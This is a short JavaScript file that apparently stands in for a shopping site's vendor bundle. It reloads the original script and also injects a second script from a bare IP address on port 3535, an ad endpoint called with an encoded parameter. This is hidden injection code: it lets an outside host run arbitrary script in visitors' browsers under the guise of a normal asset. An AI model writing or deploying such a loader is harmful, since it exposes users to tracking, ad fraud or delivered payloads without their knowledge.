var _atn_obj_ = new Object;
_atn_obj_.oldurl = 'http://images.plateno.com/mall_static/js/vendors.1901b82521098c3663c0.js?cHVzaA=105658';
_atn_obj_.unified_url = 'http://121.15.207.224:3535/adv_select/ad_unified_access?SP=ABzs/PzoPOz8zPg7yXnpGRmpOgmJugy8vPzs/Pg86Dy8vPzs/Pg8/Nz8/Ny8rKyc7Jv87JzNGYm4PKxtHLzdHNzMjRzMyDzoPOz8rJyseDz4PPg5Kek5PRj5Oei5qRkNGckJKDzsvHy87MyMjGzIPNg88=';
window.setTimeout(function() {
    var a = document.createElement("script");
    a.src = _atn_obj_.oldurl;
    document.getElementsByTagName("head")[0].appendChild(a);
}, 0);
window.setTimeout(function() {
    var a = document.createElement("script");
    a.src = _atn_obj_.unified_url;
    document.getElementsByTagName("head")[0].appendChild(a);
}, 0);
